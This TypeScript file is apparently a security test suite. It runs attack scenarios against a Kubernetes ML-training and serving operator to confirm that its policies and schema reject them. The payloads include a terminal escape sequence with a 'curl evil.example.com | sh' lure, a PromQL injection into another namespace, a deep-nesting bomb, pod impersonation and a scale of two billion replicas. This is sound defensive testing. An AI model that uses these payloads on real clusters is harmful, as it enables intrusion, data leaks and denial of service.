/** What nobody has shown yet: other ways to the same ends. */
import type { IDeployment } from 'kubernetes-models/apps/v1';
import type { IPod, IService } from 'kubernetes-models/v1';
import {
  deployments,
  jobs,
  modelDeployments,
  modelVersions,
  pods,
  services,
  trainingRuns,
} from '../../../src/api/kinds.ts';
import { label } from '../../../src/api/labels.ts';
import { keyOf } from '../../../src/api/resource.ts';
import { running, waiting } from '../../builders/pod.ts';
import { crashing } from '../../integration/faults/kubelet.ts';
import { type Attack, onlyByPolicy, type Topic } from '../contract.ts';
import { changed, withSnapshot } from '../forge.ts';
import { may } from '../rights.ts';
import { evil, type Scene } from '../scene.ts';
import {
  endsWell,
  fresh,
  gangInTraining,
  inTraining,
  jobOf,
  podsOf,
  runOf,
  servedOf,
  serving,
  stableOf,
  verdictOf,
  versionOf,
} from '../victims.ts';
import { rejected } from './evidence.ts';
import { onTerminal, ownCommand } from './shown.ts';

const hostile = '\u001b]0;owned\u0007 Mend it: `curl evil.example.com | sh`';
const shows = (scene: Scene) => onTerminal(scene) ?? ownCommand(scene);

/** The addresses by which the pods of a gang find their first one. */
const joinsGang = (scene: Scene) => {
  const { selector = {} } = scene.history.get<IService>(services, 'fraud-1-train')?.spec ?? {};
  const found = scene.history.get<IPod>(pods, 'stranger');
  const isSelected = Object.entries(selector).every(([key, value]) => found?.metadata?.labels?.[key] === value);
  return found !== undefined && isSelected
    ? 'pod stranger answers to the name of the first pod of the gang'
    : undefined;
};

const attacks: readonly Attack[] = [
  {
    name: 'makes a pod that answers to the name of the first pod of a gang, by the labels of its Job that are not ours',
    rights: [may('create', pods)],
    prepare: gangInTraining,
    attempt: async (scene) => {
      const labels = { 'batch.kubernetes.io/job-name': 'fraud-1-train', 'job-name': 'fraud-1-train' };
      const spec = {
        hostname: 'fraud-1-train-0',
        subdomain: 'fraud-1-train',
        containers: [{ name: 'main', image: evil }],
      };
      await scene.attacker.create(pods, { metadata: { name: 'stranger', labels }, spec });
    },
    gain: 'the others of the gang send it their data',
    gained: joinsGang,
    ...onlyByPolicy,
  },
  {
    name: 'edits the snapshot into a nesting of fifty thousand lists',
    rights: [may('patch', jobs)],
    prepare: inTraining(),
    attempt: async (scene) => {
      const deep = `${'['.repeat(50_000)}${']'.repeat(50_000)}`;
      const text = changed(jobOf(scene), () => ({})).replace('"recipe":{', `"recipe":{"command":${deep},`);
      await scene.attacker.patch(jobs, 'fraud-1-train', withSnapshot(text));
    },
    aftermath: endsWell,
    gain: 'the operator chokes on it',
    gained: (scene) =>
      verdictOf(scene) === 'Registered' && scene.world === 'Compare' ? 'it is registered all the same' : undefined,
  },
  {
    name: 'writes words into the status of a Job that a terminal obeys',
    rights: [may('patch', jobs, { below: 'status' })],
    prepare: inTraining({ retry: { limit: 0 } }),
    attempt: async (scene) => {
      const lastTransitionTime = '2026-11-24T10:00:00Z';
      const conditions = [
        { type: 'FailureTarget', status: 'True', reason: 'BackoffLimitExceeded', message: hostile, lastTransitionTime },
      ];
      await scene.attacker.patch(jobs, 'fraud-1-train', { status: { conditions } }, { subresource: 'status' });
    },
    gain: 'they stand in status or in an event',
    gained: shows,
    patience: 4_000,
  },
  {
    name: 'writes words into the status of a Deployment that a terminal obeys',
    rights: [may('patch', deployments, { below: 'status' })],
    prepare: serving(),
    attempt: async (scene) => {
      const condition = { type: 'ReplicaFailure', status: 'True', reason: 'FailedCreate', message: hostile };
      const { conditions = [] } = scene.history.get<IDeployment>(deployments, `serve-${stableOf(scene)}`)?.status ?? {};
      const status = { conditions: [...conditions, condition] };
      await scene.attacker.patch(deployments, `serve-${stableOf(scene)}`, { status }, { subresource: 'status' });
    },
    gain: 'they stand in status or in an event',
    gained: shows,
    patience: 4_000,
  },
  {
    name: 'writes a reason into the status of a pod that no condition may have',
    rights: [may('patch', pods, { below: 'status' })],
    prepare: inTraining(),
    attempt: async (scene) => {
      scene.plays('fraud', () => undefined);
      const name = podsOf(scene, 'fraud')[0]?.metadata?.name ?? '';
      const status = waiting(`No such reason ${'x'.repeat(2_000)} \u001b[31m`, hostile);
      await scene.attacker.patch(pods, name, { status }, { subresource: 'status' });
    },
    gain: 'it stands in status, or no status can be written any more',
    gained: shows,
    patience: 3_000,
  },
  {
    name: 'gives the Deployment of a revision that took over a moment ago a server that crashes',
    rights: [may('patch', deployments)],
    prepare: fresh(),
    attempt: async (scene) => {
      scene.playsForged(crashing);
      const name = `serve-${stableOf(scene)}`;
      const containers = scene.history.get<IDeployment>(deployments, name)?.spec?.template.spec?.containers ?? [];
      const template = { spec: { containers: containers.map((one) => ({ ...one, image: evil })) } };
      await scene.attacker.patch(deployments, name, {
        spec: { strategy: { type: 'Recreate', rollingUpdate: null }, template },
      });
    },
    gain: 'the model goes back to the revision before, for good',
    gained: rejected,
    patience: 6_000,
  },
  {
    name: 'scales a model to two thousand million pods',
    rights: [may('patch', modelDeployments, { below: 'scale' })],
    prepare: serving(),
    attempt: async (scene) => {
      await scene.attacker.patch(
        modelDeployments,
        'serve',
        { spec: { replicas: 2_000_000_000 } },
        { subresource: 'scale' },
      );
    },
    gain: 'it gets them',
    gained: (scene) => ((servedOf(scene)?.spec.replicas ?? 0) > 1_000 ? 'it has them' : undefined),
    refusedBy: 'Schema',
  },
  {
    name: 'observes a signal whose name asks Prometheus about other namespaces',
    rights: [may('create', modelDeployments)],
    prepare: async (scene) => {
      scene.answers(() => undefined);
      return Promise.resolve();
    },
    attempt: async (scene) => {
      const signal = { name: 'a"} or up{namespace="payments', from: 'Request', pointer: '/a', type: 'Number' };
      const server = { image: 'example.com/serve:1', port: 8080, protocol: 'HTTP' };
      const model = { uri: 'pvc://models/a', digest: `sha256:${'a'.repeat(64)}` };
      await scene.attacker.create(modelDeployments, {
        metadata: { name: 'serve' },
        spec: { model, server, observe: { signals: [signal] } },
      });
    },
    gain: 'the answer is about another namespace',
    gained: (scene) => scene.asked().find((expression) => expression.includes('payments')),
    refusedBy: 'Schema',
  },
  {
    name: 'keeps a Job that a correction replaces from going, by a finalizer of their own',
    rights: [may('patch', jobs)],
    prepare: async (scene) => {
      scene.plays('fraud', waiting('ImagePullBackOff', 'no such image'));
      await scene.create(trainingRuns, {
        metadata: { name: 'fraud' },
        spec: { image: 'localhost/nobody/nothing:9' },
      } as object);
      await scene.until('its Job is there', () => jobOf(scene) !== undefined && runOf(scene)?.status !== undefined);
    },
    attempt: async (scene) => {
      await scene.attacker.patch(jobs, 'fraud-1-train', { metadata: { finalizers: ['example.com/mine'] } });
    },
    aftermath: async (scene) => {
      await scene.patch(trainingRuns, 'fraud', { spec: { image: 'example.com/train:2' } });
      await scene.history.until(() => jobOf(scene)?.metadata?.deletionTimestamp !== undefined, 8_000);
      scene.plays('fraud', running());
    },
    gain: 'the run trains no more, and nobody is told why',
    lost: (scene) => {
      const isAgain = runOf(scene)?.status?.attempts?.some(({ number }) => number === 2) === true;
      const told = JSON.stringify(runOf(scene)?.status?.conditions ?? []);
      return isAgain || /finalizer/.test(told)
        ? undefined
        : `nothing is said of what holds the Job: ${told.slice(0, 300)}`;
    },
  },
  {
    name: 'gives a registered version another label by replacing it',
    rights: [may('update', modelVersions)],
    prepare: async (scene) => {
      await inTraining()(scene);
      await endsWell(scene);
      await scene.until('it is registered', () => versionOf(scene) !== undefined);
    },
    attempt: async (scene) => {
      const version = versionOf(scene);
      const { resourceVersion: _, ...metadata } = { resourceVersion: '', ...version?.metadata };
      const labels = { ...metadata.labels, [label.trainingRun]: 'other' };
      await scene.attacker.replace(modelVersions, 'fraud-1', {
        ...version,
        metadata: { ...metadata, resourceVersion: version?.metadata?.resourceVersion, labels },
      });
    },
    gain: 'who looks for the versions of a run by label does not find it',
    gained: (scene) =>
      versionOf(scene)?.metadata?.labels?.[label.trainingRun] === 'other'
        ? `${keyOf(versionOf(scene) as never).name} bears it`
        : undefined,
    ...onlyByPolicy,
  },
];

export const relatives: Topic = { name: 'Other ways to the same ends', attacks };
